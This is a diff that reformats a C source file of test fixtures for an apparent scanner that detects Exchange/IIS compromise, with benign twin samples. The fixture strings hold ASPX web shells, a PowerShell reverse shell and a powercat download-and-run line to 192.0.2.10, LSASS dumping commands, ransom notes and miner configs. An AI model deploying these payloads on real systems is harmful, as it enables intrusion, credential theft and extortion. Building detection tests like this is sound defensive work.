@@ -11,14 +11,43 @@
 #include "fixfiles.h"
 
 const char *const t_fix_names[] = {
-    "ws-eval", "ws-eval-vbs", "ws-process", "ws-assembly", "ws-upload", "ws-obfuscated",
-    "ws-oab-dump", "ws-compiled-dll", "ws-tunnel", "ws-seccheck", "ws-filemgr", "ws-webconfig",
-    "px-recon-cab", "px-nishang", "px-powercat", "px-cleanup", "px-lsass-cmd", "px-minidump-cmd",
-    "px-staging-cmd", "px-mbxexport", "px-lsass-dumpfile", "rw-dearcry-note", "rw-dearcry-bin",
-    "rw-blackkingdom", "mn-xmrig-config", "mn-stratum", "mn-xmrig-bin",
+    "ws-eval",
+    "ws-eval-vbs",
+    "ws-process",
+    "ws-assembly",
+    "ws-upload",
+    "ws-obfuscated",
+    "ws-oab-dump",
+    "ws-compiled-dll",
+    "ws-tunnel",
+    "ws-seccheck",
+    "ws-filemgr",
+    "ws-webconfig",
+    "px-recon-cab",
+    "px-nishang",
+    "px-powercat",
+    "px-cleanup",
+    "px-lsass-cmd",
+    "px-minidump-cmd",
+    "px-staging-cmd",
+    "px-mbxexport",
+    "px-lsass-dumpfile",
+    "rw-dearcry-note",
+    "rw-dearcry-bin",
+    "rw-blackkingdom",
+    "mn-xmrig-config",
+    "mn-stratum",
+    "mn-xmrig-bin",
     /* benign twins */
-    "benign-logon", "benign-js-eval", "benign-webconfig", "benign-apphost", "benign-cab",
-    "benign-ps1", "benign-json", "benign-oab-config", "benign-exe",
+    "benign-logon",
+    "benign-js-eval",
+    "benign-webconfig",
+    "benign-apphost",
+    "benign-cab",
+    "benign-ps1",
+    "benign-json",
+    "benign-oab-config",
+    "benign-exe",
     NULL,
 };
 
@@ -163,51 +192,61 @@ static t_fix *binary(const char *name, const char *rule, bin *b)
     return f;
 }
 
-#define EV "ev" "al("
+#define EV                                                                                         \
+    "ev"                                                                                           \
+    "al("
 #define PAGE "<%@ Page Language="
 
 t_fix *t_fix_make(const char *n)
 {
     bin b = {0};
     if (!strcmp(n, "ws-eval"))
-        return text(n, "EXS-Y-WS-EVAL",
-                    J(PAGE, "\"Jscript\"%><%", EV, "Request.Item[\"z9\"],\"un", "safe\");%>\n",
-                      NULL));
+        return text(
+            n, "EXS-Y-WS-EVAL",
+            J(PAGE, "\"Jscript\"%><%", EV, "Request.Item[\"z9\"],\"un", "safe\");%>\n", NULL));
     if (!strcmp(n, "ws-eval-vbs"))
         return text(n, "EXS-Y-WS-EVAL", J("<%ex", "ecute(request(\"x\"))%>\n", NULL));
     if (!strcmp(n, "ws-process"))
-        return text(n, "EXS-Y-WS-PROCESS",
-                    J(PAGE, "\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n",
-                      "  var p = new System.Diagnostics.Process", "StartInfo(\"cm\" + \"d.exe\", \"/c \" + Request.",
-                      "Form[\"c\"]);\n  p.RedirectStandardOutput = true; p.UseShellExecute = false;\n",
-                      "  Response.Write(System.Diagnostics.Process.", "Start(p).StandardOutput.ReadToEnd());\n}\n</script>\n",
-                      NULL));
+        return text(
+            n, "EXS-Y-WS-PROCESS",
+            J(PAGE,
+              "\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n",
+              "  var p = new System.Diagnostics.Process",
+              "StartInfo(\"cm\" + \"d.exe\", \"/c \" + Request.",
+              "Form[\"c\"]);\n  p.RedirectStandardOutput = true; p.UseShellExecute = false;\n",
+              "  Response.Write(System.Diagnostics.Process.",
+              "Start(p).StandardOutput.ReadToEnd());\n}\n</script>\n", NULL));
     if (!strcmp(n, "ws-assembly"))
         return text(n, "EXS-Y-WS-ASSEMBLY",
                     J(PAGE, "\"C#\" %><% System.Reflection.Assembly.", "Load(Convert.FromBase64",
-                      "String(Request.Form[\"k\"])).CreateInstance(\"U\").Equals(this); %>\n", NULL));
+                      "String(Request.Form[\"k\"])).CreateInstance(\"U\").Equals(this); %>\n",
+                      NULL));
     if (!strcmp(n, "ws-upload"))
-        return text(n, "EXS-Y-WS-UPLOAD",
-                    J(PAGE, "\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n",
-                      "  if (Request.Files.Count > 0) Request.Files[0].Save", "As(Server.MapPath(\"./\" + ",
-                      "Request.Files[0].FileName));\n}\n</script>\n", NULL));
+        return text(
+            n, "EXS-Y-WS-UPLOAD",
+            J(PAGE,
+              "\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n",
+              "  if (Request.Files.Count > 0) Request.Files[0].Save", "As(Server.MapPath(\"./\" + ",
+              "Request.Files[0].FileName));\n}\n</script>\n", NULL));
     if (!strcmp(n, "ws-obfuscated"))
         return text(n, "EXS-Y-WS-OBFUSCATED",
-                    J("<script language=\"JScript\" runat=\"server\">var _0x1a2b=['orange','un", "safe'];",
-                      "function Page_Load(){", EV, "Request[_0x1a2b[0]],_0x1a2b[1]);}</script>\n", NULL));
+                    J("<script language=\"JScript\" runat=\"server\">var _0x1a2b=['orange','un",
+                      "safe'];", "function Page_Load(){", EV,
+                      "Request[_0x1a2b[0]],_0x1a2b[1]);}</script>\n", NULL));
     if (!strcmp(n, "ws-oab-dump"))
-        return text(n, "EXS-Y-WS-OAB-DUMP",
-                    J("\r\n\r\nName                            : OAB (Default Web Site)\r\n",
-                      "PollInterval                    : 480\r\n",
-                      "OfflineAddressBooks             : \r\n",
-                      "RequireSSL                      : False\r\n",
-                      "MetabasePath                    : IIS://EXCH01.contoso.test/W3SVC/1/ROOT/OAB\r\n",
-                      "ExtendedProtectionTokenChecking : None\r\n",
-                      "InternalUrl                     : https://exch01.contoso.test/OAB\r\n",
-                      "InternalAuthenticationMethods   : {WindowsIntegrated}\r\n",
-                      "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">",
-                      "function Page_Load(){", EV, "Request[\"k\"],\"un", "safe\");}</script>\r\n",
-                      "ExternalAuthenticationMethods   : {WindowsIntegrated}\r\n", NULL));
+        return text(
+            n, "EXS-Y-WS-OAB-DUMP",
+            J("\r\n\r\nName                            : OAB (Default Web Site)\r\n",
+              "PollInterval                    : 480\r\n", "OfflineAddressBooks             : \r\n",
+              "RequireSSL                      : False\r\n",
+              "MetabasePath                    : IIS://EXCH01.contoso.test/W3SVC/1/ROOT/OAB\r\n",
+              "ExtendedProtectionTokenChecking : None\r\n",
+              "InternalUrl                     : https://exch01.contoso.test/OAB\r\n",
+              "InternalAuthenticationMethods   : {WindowsIntegrated}\r\n",
+              "ExternalUrl                     : http://f/<script language=\"JScript\" "
+              "runat=\"server\">",
+              "function Page_Load(){", EV, "Request[\"k\"],\"un", "safe\");}</script>\r\n",
+              "ExternalAuthenticationMethods   : {WindowsIntegrated}\r\n", NULL));
     if (!strcmp(n, "ws-compiled-dll")) {
         put(&b, "MZ", 2);
         zeros(&b, 126);
@@ -227,31 +266,37 @@ t_fix *t_fix_make(const char *n)
         return text(n, "EXS-Y-WS-TUNNEL",
                     J(PAGE, "\"C#\" %>\n<%@ Import Namespace=\"System.Net.Sock", "ets\" %>\n",
                       "<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n",
-                      "  String cmd = Request.Headers.Get(\"X-C", "MD\");\n",
-                      "  if (cmd == \"CONN", "ECT\") { Socket k = new Sock", "et(AddressFamily.InterNetwork, ",
-                      "SocketType.Stream, ProtocolType.Tcp); Response.AddHeader(\"X-STA", "TUS\", \"OK\"); }\n",
-                      "  else if (cmd == \"DISCON", "NECT\") { }\n}\n</script>\n", NULL));
+                      "  String cmd = Request.Headers.Get(\"X-C", "MD\");\n", "  if (cmd == \"CONN",
+                      "ECT\") { Socket k = new Sock", "et(AddressFamily.InterNetwork, ",
+                      "SocketType.Stream, ProtocolType.Tcp); Response.AddHeader(\"X-STA",
+                      "TUS\", \"OK\"); }\n", "  else if (cmd == \"DISCON",
+                      "NECT\") { }\n}\n</script>\n", NULL));
     if (!strcmp(n, "ws-seccheck"))
         return text(n, "EXS-Y-WS-SECCHECK",
                     J("<%@ Page Language=\"C#\" %><%\n",
-                      "if (System.IO.File.Exists(@\"C:\\Program Files\\FireEye\\xagt\\xa", "gt.exe\")) Response.Write(\"3\");\n",
-                      "if (System.IO.File.Exists(@\"C:\\Program Files\\CrowdStrike\\CSFalcon", "Service.exe\")) Response.Write(\"2\");\n",
-                      "%>\n", NULL));
+                      "if (System.IO.File.Exists(@\"C:\\Program Files\\FireEye\\xagt\\xa",
+                      "gt.exe\")) Response.Write(\"3\");\n",
+                      "if (System.IO.File.Exists(@\"C:\\Program Files\\CrowdStrike\\CSFalcon",
+                      "Service.exe\")) Response.Write(\"2\");\n", "%>\n", NULL));
     if (!strcmp(n, "ws-filemgr"))
         return text(n, "EXS-Y-WS-FILEMGR",
-                    J(PAGE, "\"C#\" %><%\n",
-                      "foreach (var d in System.IO.DriveInfo.Get", "Drives()) Response.Write(d.Name);\n",
-                      "foreach (var f in System.IO.Directory.Get", "Files(Request[\"p\"])) Response.Write(f);\n",
-                      "if (Request[\"del\"] != null) System.IO.File.De", "lete(Request[\"del\"]);\n%>\n", NULL));
+                    J(PAGE, "\"C#\" %><%\n", "foreach (var d in System.IO.DriveInfo.Get",
+                      "Drives()) Response.Write(d.Name);\n",
+                      "foreach (var f in System.IO.Directory.Get",
+                      "Files(Request[\"p\"])) Response.Write(f);\n",
+                      "if (Request[\"del\"] != null) System.IO.File.De",
+                      "lete(Request[\"del\"]);\n%>\n", NULL));
     if (!strcmp(n, "ws-webconfig"))
-        return text(n, "EXS-Y-WS-WEBCONFIG",
-                    J("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n",
-                      "  <handlers accessPolicy=\"Read, Script, Write\">\n",
-                      "   <add name=\"web_config\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" ",
-                      "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />\n",
-                      "  </handlers>\n </system.webServer>\n</configuration>\n",
-                      "<!-- <% Response.Write(CreateObject(\"WScript.", "Shell\").Exec(Request(\"c\")).StdOut.ReadAll()) %> -->\n",
-                      NULL));
+        return text(
+            n, "EXS-Y-WS-WEBCONFIG",
+            J("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n",
+              "  <handlers accessPolicy=\"Read, Script, Write\">\n",
+              "   <add name=\"web_config\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" ",
+              "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" "
+              "resourceType=\"Unspecified\" />\n",
+              "  </handlers>\n </system.webServer>\n</configuration>\n",
+              "<!-- <% Response.Write(CreateObject(\"WScript.",
+              "Shell\").Exec(Request(\"c\")).StdOut.ReadAll()) %> -->\n", NULL));
     if (!strcmp(n, "px-recon-cab") || !strcmp(n, "benign-cab")) {
         put(&b, "MSCF", 4);
         zeros(&b, 40);
@@ -270,125 +315,159 @@ t_fix *t_fix_make(const char *n)
         return binary(n, n[0] == 'p' ? "EXS-Y-PX-RECON-CAB" : NULL, &b);
     }
     if (!strcmp(n, "px-nishang"))
-        return text(n, "EXS-Y-PX-NISHANG",
-                    J("$client = New-Object System.Net.Sockets.TCP", "Client('192.0.2.10',4444);",
-                      "$stream = $client.Get", "Stream();[byte[]]$bytes = 0..65535|%{0};",
-                      "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;",
-                      "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);",
-                      "$sendback = (i", "ex $data 2>&1 | Out-String );}\n", NULL));
+        return text(
+            n, "EXS-Y-PX-NISHANG",
+            J("$client = New-Object System.Net.Sockets.TCP", "Client('192.0.2.10',4444);",
+              "$stream = $client.Get", "Stream();[byte[]]$bytes = 0..65535|%{0};",
+              "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;",
+              "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);",
+              "$sendback = (i", "ex $data 2>&1 | Out-String );}\n", NULL));
     if (!strcmp(n, "px-powercat"))
         return text(n, "EXS-Y-PX-POWERCAT",
-                    J("IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/",
-                      "besimorhino/power", "cat/master/power", "cat.ps1');power", "cat -c 192.0.2.10 -p 443 -e cmd\n",
-                      NULL));
+                    J("IEX (New-Object "
+                      "System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/",
+                      "besimorhino/power", "cat/master/power", "cat.ps1');power",
+                      "cat -c 192.0.2.10 -p 443 -e cmd\n", NULL));
     if (!strcmp(n, "px-cleanup"))
         return text(n, "EXS-Y-PX-CLEANUP",
-                    J("cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet", "_client&whoami&echo [", "S]&cd&echo [E]\n",
-                      NULL));
+                    J("cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet", "_client&whoami&echo [",
+                      "S]&cd&echo [E]\n", NULL));
     if (!strcmp(n, "px-lsass-cmd"))
         return text(n, "EXS-Y-PX-LSASS-CMD",
-                    J("C:\\Windows\\Temp\\proc", "dump64.exe -accepteula -ma lsa", "ss.exe C:\\windows\\temp\\lsa",
-                      "ss.dmp\n", NULL));
+                    J("C:\\Windows\\Temp\\proc", "dump64.exe -accepteula -ma lsa",
+                      "ss.exe C:\\windows\\temp\\lsa", "ss.dmp\n", NULL));
     if (!strcmp(n, "px-minidump-cmd"))
         return text(n, "EXS-Y-PX-MINIDUMP-CMD",
-                    J("rundll32.exe C:\\Windows\\System32\\com", "svcs.dll, Mini", "Dump 624 C:\\Windows\\Temp\\out.bin full\n",
-                      NULL));
+                    J("rundll32.exe C:\\Windows\\System32\\com", "svcs.dll, Mini",
+                      "Dump 624 C:\\Windows\\Temp\\out.bin full\n", NULL));
     if (!strcmp(n, "px-staging-cmd"))
         return text(n, "EXS-Y-PX-STAGING-CMD",
-                    J("C:\\Windows\\Temp\\7z.exe a -t", "7z -mx9 C:\\ProgramData\\it", ".zip C:\\ProgramData\\logs\n",
-                      NULL));
+                    J("C:\\Windows\\Temp\\7z.exe a -t", "7z -mx9 C:\\ProgramData\\it",
+                      ".zip C:\\ProgramData\\logs\n", NULL));
     if (!strcmp(n, "px-mbxexport"))
         return text(n, "EXS-Y-PX-MBXEXPORT",
                     J("Add-PSSnapin Microsoft.Exchange.Management.PowerShell.", "SnapIn;\n",
-                      "New-Mailbox", "ExportRequest -Mailbox ceo -FilePath \\\\srv01\\share\\ceo.pst\n", NULL));
+                      "New-Mailbox",
+                      "ExportRequest -Mailbox ceo -FilePath \\\\srv01\\share\\ceo.pst\n", NULL));
     if (!strcmp(n, "px-lsass-dumpfile"))
-        return text(n, "EXS-Y-PX-LSASS-DUMPFILE",
-                    J("TargetFilename: C:\\Users\\admin\\AppData\\Local\\Temp\\lsa", "ss (4).DMP\n", NULL));
+        return text(
+            n, "EXS-Y-PX-LSASS-DUMPFILE",
+            J("TargetFilename: C:\\Users\\admin\\AppData\\Local\\Temp\\lsa", "ss (4).DMP\n", NULL));
     if (!strcmp(n, "rw-dearcry-note"))
         return text(n, "EXS-Y-RW-DEARCRY-NOTE",
-                    J("Your file has been ", "encrypted!\r\n    If you want to decrypt, please contact us.\r\n",
-                      "    contact@example.test\r\n    And please send me the following ", "hash!\r\n",
-                      "    0123456789abcdef0123456789abcdef\r\n", NULL));
+                    J("Your file has been ",
+                      "encrypted!\r\n    If you want to decrypt, please contact us.\r\n",
+                      "    contact@example.test\r\n    And please send me the following ",
+                      "hash!\r\n", "    0123456789abcdef0123456789abcdef\r\n", NULL));
     if (!strcmp(n, "rw-dearcry-bin")) {
         put(&b, "MZ", 2);
         zeros(&b, 200);
-        puts_(&b, "DEAR" "CRY!");
-        puts_(&b, "msup" "date");
-        puts_(&b, "/read" "me.txt");
+        puts_(&b, "DEAR"
+                  "CRY!");
+        puts_(&b, "msup"
+                  "date");
+        puts_(&b, "/read"
+                  "me.txt");
         zeros(&b, 32);
         return binary(n, "EXS-Y-RW-DEARCRY-BIN", &b);
     }
     if (!strcmp(n, "rw-blackkingdom"))
-        return text(n, "EXS-Y-RW-BLACKKINGDOM",
-                    J("Black King", "Dom: your files are locked. Pay 10000 USD in bit", "coin.\n", NULL));
+        return text(
+            n, "EXS-Y-RW-BLACKKINGDOM",
+            J("Black King", "Dom: your files are locked. Pay 10000 USD in bit", "coin.\n", NULL));
     if (!strcmp(n, "mn-xmrig-config"))
         return text(n, "EXS-Y-MN-XMRIG-CONFIG",
-                    J("{\n    \"autosave\": true,\n    \"randomx\": {\n        \"mode\": \"auto\"\n    },\n",
+                    J("{\n    \"autosave\": true,\n    \"randomx\": {\n        \"mode\": "
+                      "\"auto\"\n    },\n",
                       "    \"donate-", "level\": 1,\n    \"pools\": [\n        {\n",
-                      "            \"url\": \"pool.example.test:3333\",\n            \"user\": \"WALLET\",\n",
+                      "            \"url\": \"pool.example.test:3333\",\n            \"user\": "
+                      "\"WALLET\",\n",
                       "            \"coin\": null\n        }\n    ]\n}\n", NULL));
     if (!strcmp(n, "mn-stratum"))
         return text(n, "EXS-Y-MN-STRATUM",
-                    J("start /b C:\\ProgramData\\svc.exe -o stra", "tum+tcp://pool.example.test:3333 -u WALLET\n",
-                      NULL));
+                    J("start /b C:\\ProgramData\\svc.exe -o stra",
+                      "tum+tcp://pool.example.test:3333 -u WALLET\n", NULL));
     if (!strcmp(n, "mn-xmrig-bin")) {
-        put(&b, "\x7f" "ELF", 4);
+        put(&b,
+            "\x7f"
+            "ELF",
+            4);
         zeros(&b, 60);
-        puts_(&b, "XM" "Rig/6.16.4");
-        puts_(&b, "donate-" "level");
-        puts_(&b, "random" "x");
+        puts_(&b, "XM"
+                  "Rig/6.16.4");
+        puts_(&b, "donate-"
+                  "level");
+        puts_(&b, "random"
+                  "x");
         zeros(&b, 32);
         return binary(n, "EXS-Y-MN-XMRIG-BIN", &b);
     }
     /* benign twins */
     if (!strcmp(n, "benign-logon"))
-        return text(n, NULL,
-                    J(PAGE, "\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\n",
-                      "<!DOCTYPE html>\n<html><head><title>Outlook</title>\n",
-                      "<script type=\"text/javascript\">function setCookie(n, v) { document.cookie = n + '=' + v; }</script>\n",
-                      "</head><body><form action=\"/owa/auth.owa\" method=\"POST\" name=\"logonForm\">\n",
-                      "<input name=\"username\" type=\"text\"/><input name=\"password\" type=\"password\"/>\n",
-                      "<% if (Request.QueryString[\"reason\"] == \"2\") { %><div>The user name or password is incorrect.</div><% } %>\n",
-                      "</form></body></html>\n", NULL));
+        return text(
+            n, NULL,
+            J(PAGE,
+              "\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" "
+              "%>\n",
+              "<!DOCTYPE html>\n<html><head><title>Outlook</title>\n",
+              "<script type=\"text/javascript\">function setCookie(n, v) { document.cookie = n + "
+              "'=' + v; }</script>\n",
+              "</head><body><form action=\"/owa/auth.owa\" method=\"POST\" name=\"logonForm\">\n",
+              "<input name=\"username\" type=\"text\"/><input name=\"password\" "
+              "type=\"password\"/>\n",
+              "<% if (Request.QueryString[\"reason\"] == \"2\") { %><div>The user name or password "
+              "is incorrect.</div><% } %>\n",
+              "</form></body></html>\n", NULL));
     if (!strcmp(n, "benign-js-eval"))
         return text(n, NULL,
-                    J("function load(url) { var request = new XMLHttpRequest(); request.open('GET', url, false);\n",
+                    J("function load(url) { var request = new XMLHttpRequest(); "
+                      "request.open('GET', url, false);\n",
                       "  request.send(null); return ", EV, "request.responseText); }\n",
                       "function parse(json) { return ", EV, "'(' + json + ')'); }\n", NULL));
     if (!strcmp(n, "benign-webconfig"))
-        return text(n, NULL,
-                    J("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n",
-                      "  <httpRedirect enabled=\"false\" />\n  <rewrite>\n   <rules>\n",
-                      "    <rule name=\"X-BEResource Abort - inbound\" stopProcessing=\"true\">\n",
-                      "     <match url=\".*\" />\n     <conditions>\n",
-                      "      <add input=\"{HTTP_COOKIE}\" pattern=\"(.*)X-BEResource=(.+)/(.+)~(.+)\" />\n",
-                      "     </conditions>\n     <action type=\"AbortRequest\" />\n    </rule>\n",
-                      "   </rules>\n  </rewrite>\n </system.webServer>\n</configuration>\n", NULL));
+        return text(
+            n, NULL,
+            J("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n",
+              "  <httpRedirect enabled=\"false\" />\n  <rewrite>\n   <rules>\n",
+              "    <rule name=\"X-BEResource Abort - inbound\" stopProcessing=\"true\">\n",
+              "     <match url=\".*\" />\n     <conditions>\n",
+              "      <add input=\"{HTTP_COOKIE}\" pattern=\"(.*)X-BEResource=(.+)/(.+)~(.+)\" />\n",
+              "     </conditions>\n     <action type=\"AbortRequest\" />\n    </rule>\n",
+              "   </rules>\n  </rewrite>\n </system.webServer>\n</configuration>\n", NULL));
     if (!strcmp(n, "benign-apphost") || !strcmp(n, "rogue-apphost"))
-        return text(n, NULL,
-                    J("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n<system.applicationHost>\n",
-                      " <sites>\n  <site name=\"Default Web Site\" id=\"1\">\n",
-                      "   <application path=\"/\" applicationPool=\"DefaultAppPool\">\n",
-                      "    <virtualDirectory path=\"/\" physicalPath=\"%SystemDrive%\\inetpub\\wwwroot\" />\n",
-                      "   </application>\n",
-                      "   <application path=\"/owa\" applicationPool=\"MSExchangeOWAAppPool\">\n",
-                      "    <virtualDirectory path=\"/\" physicalPath=\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\" />\n",
-                      "   </application>\n",
-                      n[0] == 'r' ? "   <application path=\"/assets\" applicationPool=\"DefaultAppPool\">\n"
-                                    "    <virtualDirectory path=\"/\" physicalPath=\"C:\\ProgramData\\COM1\" />\n"
-                                    "   </application>\n"
-                                  : "",
-                      "   <bindings><binding protocol=\"https\" bindingInformation=\"*:443:\" /></bindings>\n",
-                      "  </site>\n </sites>\n</system.applicationHost>\n</configuration>\n", NULL));
+        return text(
+            n, NULL,
+            J("<?xml version=\"1.0\" "
+              "encoding=\"UTF-8\"?>\n<configuration>\n<system.applicationHost>\n",
+              " <sites>\n  <site name=\"Default Web Site\" id=\"1\">\n",
+              "   <application path=\"/\" applicationPool=\"DefaultAppPool\">\n",
+              "    <virtualDirectory path=\"/\" physicalPath=\"%SystemDrive%\\inetpub\\wwwroot\" "
+              "/>\n",
+              "   </application>\n",
+              "   <application path=\"/owa\" applicationPool=\"MSExchangeOWAAppPool\">\n",
+              "    <virtualDirectory path=\"/\" physicalPath=\"C:\\Program "
+              "Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\" />\n",
+              "   </application>\n",
+              n[0] == 'r'
+                  ? "   <application path=\"/assets\" applicationPool=\"DefaultAppPool\">\n"
+                    "    <virtualDirectory path=\"/\" physicalPath=\"C:\\ProgramData\\COM1\" />\n"
+                    "   </application>\n"
+                  : "",
+              "   <bindings><binding protocol=\"https\" bindingInformation=\"*:443:\" "
+              "/></bindings>\n",
+              "  </site>\n </sites>\n</system.applicationHost>\n</configuration>\n", NULL));
     if (!strcmp(n, "benign-ps1"))
         return text(n, NULL,
                     J("Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\n",
-                      "Get-Mailbox -ResultSize Unlimited | Select Name, PrimarySmtpAddress | Export-Csv C:\\Temp\\mbx.csv\n",
+                      "Get-Mailbox -ResultSize Unlimited | Select Name, PrimarySmtpAddress | "
+                      "Export-Csv C:\\Temp\\mbx.csv\n",
                       NULL));
     if (!strcmp(n, "benign-json"))
-        return text(n, NULL,
-                    J("{\n  \"name\": \"owa-client\",\n  \"version\": \"1.2.3\",\n  \"dependencies\": {\n",
-                      "    \"url\": \"^0.11.0\"\n  },\n  \"scripts\": { \"build\": \"webpack\" }\n}\n", NULL));
+        return text(
+            n, NULL,
+            J("{\n  \"name\": \"owa-client\",\n  \"version\": \"1.2.3\",\n  \"dependencies\": {\n",
+              "    \"url\": \"^0.11.0\"\n  },\n  \"scripts\": { \"build\": \"webpack\" }\n}\n",
+              NULL));
     if (!strcmp(n, "benign-oab-config"))
         return text(n, NULL,
                     J("Name                            : OAB (Default Web Site)\r\n",
